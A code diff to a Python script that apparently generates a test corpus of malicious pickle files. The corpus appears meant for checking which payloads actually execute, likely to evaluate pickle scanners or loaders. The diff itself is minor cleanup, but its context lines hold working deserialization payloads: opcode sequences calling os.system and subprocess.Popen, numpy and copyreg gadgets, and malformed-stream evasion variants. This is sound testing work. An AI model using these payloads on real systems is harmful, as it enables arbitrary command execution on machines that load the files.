@@ -8,10 +8,10 @@ a process of its own in an empty folder, and writes down which of them really di
 
 import base64
 import csv
-import io
 import marshal
 import os
 import pickle
+import re
 import struct
 import sys
 import zlib
@@ -72,7 +72,7 @@ def opcodes():
         "in-tuple3": b"\x80\x04" + item(1) + item(2) + SYSTEM + ARG + b"R\x87.",
         "deep": b"\x80\x04" + b"]" * 50 + SYSTEM + ARG + b"R" + b"a" * 50 + b".",
         "dup-function": b"\x80\x04" + SYSTEM + b"2" + ARG + b"R" + b"0" + b"0" + item({}) + b".",
-        "mark-noise": b"\x80\x04" + b"(" * 40 + SYSTEM + ARG + b"R" + b"1" * 0 + b".",
+        "mark-noise": b"\x80\x04" + b"(" * 40 + SYSTEM + ARG + b"R" + b".",
         "no-protocol": SYSTEM + b"(" + b"X" + struct.pack("<I", len(SHELL)) + SHELL.encode() + b"tR.",
         "protocol-twice": b"\x80\x04\x80\x02" + SYSTEM + ARG + b"R.",
         "protocol-late": SYSTEM + b"\x80\x04" + ARG + b"R.",
@@ -82,7 +82,7 @@ def opcodes():
         "broken-after": b"\x80\x04" + SYSTEM + ARG + b"R\xff\xff\xff",
         "broken-pop-after": b"\x80\x04" + SYSTEM + ARG + b"R00000000.",
         "broken-memo-after": b"\x80\x04" + SYSTEM + ARG + b"Rg999999\n.",
-        "junk-tail": pickled(SYSTEM + ARG + b"R") + os.urandom(0) + b"PK\x03\x04 some bytes behind it" * 3,
+        "junk-tail": pickled(SYSTEM + ARG + b"R") + b"PK\x03\x04 some bytes behind it" * 3,
         "big-frame": b"\x80\x04" + SYSTEM + ARG + b"R.",
         "frame-exact": framed(stacked("os", "system") + ARG + b"R."),
         "frame-short": b"\x80\x04\x95" + struct.pack("<Q", 4) + stacked("os", "system") + ARG + b"R.",
@@ -191,12 +191,8 @@ def functions():
         label = module + "." + qualified
         body = stacked(module, qualified) + item(tuple(arguments)) + b"R"
         add("functions", label, pickled(body))
-        if "." not in qualified and not any(isinstance(part, Raw) for part in arguments):
-            add("functions", label + "-2", pickled(name(module, qualified) + item(tuple(arguments)) + b"R", 2)) if len(FILES) % 3 == 0 else None
-
-
-class Wrapped:
-    pass
+        if "." not in qualified and not any(isinstance(part, Raw) for part in arguments) and len(FILES) % 3 == 0:
+            add("functions", label + "-2", pickled(name(module, qualified) + item(tuple(arguments)) + b"R", 2))
 
 
 def gadgets():
@@ -294,17 +290,11 @@ def gadgets():
         "fromfunction": call("numpy", "fromiter", Raw(name("builtins", "map") + b"(" + SYSTEM + item([SHELL]) + b"tR"), "int64"),
         "reconstructor-class": call("copyreg", "_reconstructor", Raw(name("argparse", "Namespace")), Raw(name("builtins", "object")), None) + b"}" + text("append") + SYSTEM + b"sb" + text(SHELL) + b"a",
         "reconstructor-popen": call("copyreg", "_reconstructor", Raw(name("subprocess", "Popen")), Raw(name("builtins", "object")), None) + b"0" + SYSTEM + ARG + b"R",
-        "dill-code": b"@dill",
-        "cloudpickle-code": b"@cloudpickle",
-        "cloudpickle-class": b"@cloudpickle-class",
-        "dill-function-called": b"@dill-called",
         "persistent": text("x") + b"0" + SYSTEM + ARG + b"R",
         "socket": call("socket", "socket") + b"0" + call("os", "mkdir", PATH),
         "environ": name("os", "environ") + text("X") + text("1") + b"s0" + call("os", "mkdir", PATH),
     }
     for label, body in cases.items():
-        if body.startswith(b"@"):
-            continue
         add("gadgets", label, pickled(body, 0 if "python2" in label or "commands" in label else 4))
     try:
         import cloudpickle
@@ -372,7 +362,6 @@ def main():
     functions()
     gadgets()
     injected(honest())
-    import re
     with open(os.path.join(folder, "manifest.csv"), "w", newline="") as out:
         writer = csv.writer(out, lineterminator="\n")
         writer.writerow(["file", "family", "loader", "needs"])
